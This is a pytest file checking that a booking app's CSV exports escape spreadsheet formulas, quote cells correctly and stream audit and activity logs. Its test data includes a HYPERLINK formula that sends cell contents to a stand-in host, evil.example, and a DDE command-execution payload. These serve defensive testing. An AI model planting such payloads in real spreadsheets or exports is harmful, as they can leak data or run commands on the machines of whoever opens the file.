"""CSV downloads: escaped against formula injection, streamed, with the log's content."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from asgiref.sync import async_to_sync

from apps.bookings import services
from apps.dashboard import exports
from apps.dashboard.csv_export import _served_asynchronously, csv_chunks, spreadsheet_safe
from tidewire.testing.clients import bearer_client

STARTS_AT = datetime(2030, 1, 7, 10, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0x", "'\0x"),
        ("Salon = fine", "Salon = fine"),  # only the first character matters
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_spreadsheet_safe_prefixes_formula_starts_only(value, cell):
    assert spreadsheet_safe(value) == cell


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_chunks_escape_every_cell_and_quote_as_rfc_4180():
    text = "".join(csv_chunks(["=h", "b"], [["=x", 'a "b", c'], [1, None]]))
    assert parse(text) == [["'=h", "b"], ["'=x", 'a "b", c'], ["1", ""]]


def test_chunks_are_served_one_by_one_on_the_request_s_thread():
    chunks = iter(["a,b\r\n", "1,2\r\n"])

    async def collect():
        return [chunk async for chunk in _served_asynchronously(chunks)]

    assert async_to_sync(collect)() == ["a,b\r\n", "1,2\r\n"]


@pytest.fixture
def as_admin(super_admin):
    return bearer_client(super_admin)


def download(client, path, **query) -> tuple[object, list[list[str]]]:
    response = client.get(path, query)
    assert response.status_code == 200, response.content
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    return response, parse(text)


@pytest.mark.django_db
def test_the_audit_log_export_is_a_csv_attachment_of_every_field(as_admin, owner):
    business = services.business_create(name="Calm Salon", subdomain="calm", owner=owner)
    services.business_update(business_id=business.pk, changes={"name": "Calm & Co"})
    response, rows = download(as_admin, "/api/dashboard/audit.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="tidewire-audit-')
    assert response["Cache-Control"] == "no-store"
    assert rows[0] == list(exports.AUDIT_HEADER)
    updated, created = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert (created["action"], created["object_type"]) == ("business_created", "business")
    assert created["object_id"] == created["business_id"] == str(business.pk)
    assert created["before"] == ""
    assert json.loads(created["after"]) == {
        "id": business.pk, "name": "Calm Salon", "subdomain": "calm", "owner": owner.pk,
    }  # fmt: skip
    assert updated["message"] == "Business 'Calm & Co' updated (name)"
    assert (updated["object_name"], updated["changed_fields"]) == ("Calm & Co", "name")
    assert (updated["source"], updated["actor_name"], updated["actor_id"]) == ("shell", "", "")


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/api/dashboard/audit.csv", "/api/dashboard/activity.csv"])
def test_a_business_named_like_a_formula_comes_out_escaped(as_admin, owner, path):
    business = services.business_create(name=HYPERLINK, subdomain="evil", owner=owner)
    services.reservation_create(
        business_id=business.pk,
        customer_name="@SUM(1+1)*cmd|' /C calc'!A0",
        customer_email="x@example.com",
        service="-2+3",
        starts_at=STARTS_AT,
    )
    _, rows = download(as_admin, path)
    reservation, created = (dict(zip(rows[0], row, strict=True)) for row in rows[1:])
    assert created["object_name"] == "'" + HYPERLINK
    assert reservation["object_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.django_db
def test_the_audit_log_streams_in_batches_newest_first(as_admin, salon, book, monkeypatch):
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    for n in range(4):
        book(STARTS_AT, customer=f"Customer {n}")
    _, rows = download(as_admin, "/api/dashboard/audit.csv")
    ids = [int(row[0]) for row in rows[1:]]
    assert len(ids) == 5 and ids == sorted(ids, reverse=True)


@pytest.mark.django_db
def test_the_feed_export_holds_what_the_feed_shows_of_one_type(as_admin, salon, book):
    book(STARTS_AT)
    response, rows = download(as_admin, "/api/dashboard/activity.csv", type="reservation_created")
    assert 'filename="tidewire-activity-reservation_created-' in response["Content-Disposition"]
    assert rows[0] == list(exports.FEED_HEADER)
    [(created_at, event_type, name, message, actor, source)] = rows[1:]
    assert (event_type, name, actor, source) == ("reservation_created", "Carla", "", "shell")
    assert message.startswith("New reservation at 'Olivia's Salon': Carla, Haircut on ")
    assert created_at.endswith("Z")


@pytest.mark.django_db
def test_the_chart_export_has_one_row_per_bucket(as_admin, salon, book):
    book(STARTS_AT)
    response, rows = download(as_admin, "/api/dashboard/charts.csv", range="7d")
    assert 'filename="tidewire-charts-7d-' in response["Content-Disposition"]
    assert rows[0] == list(exports.CHARTS_HEADER)
    assert len(rows) == 1 + 7
    assert rows[-1][1:] == ["1", "1"]  # made today: the reservation and the salon
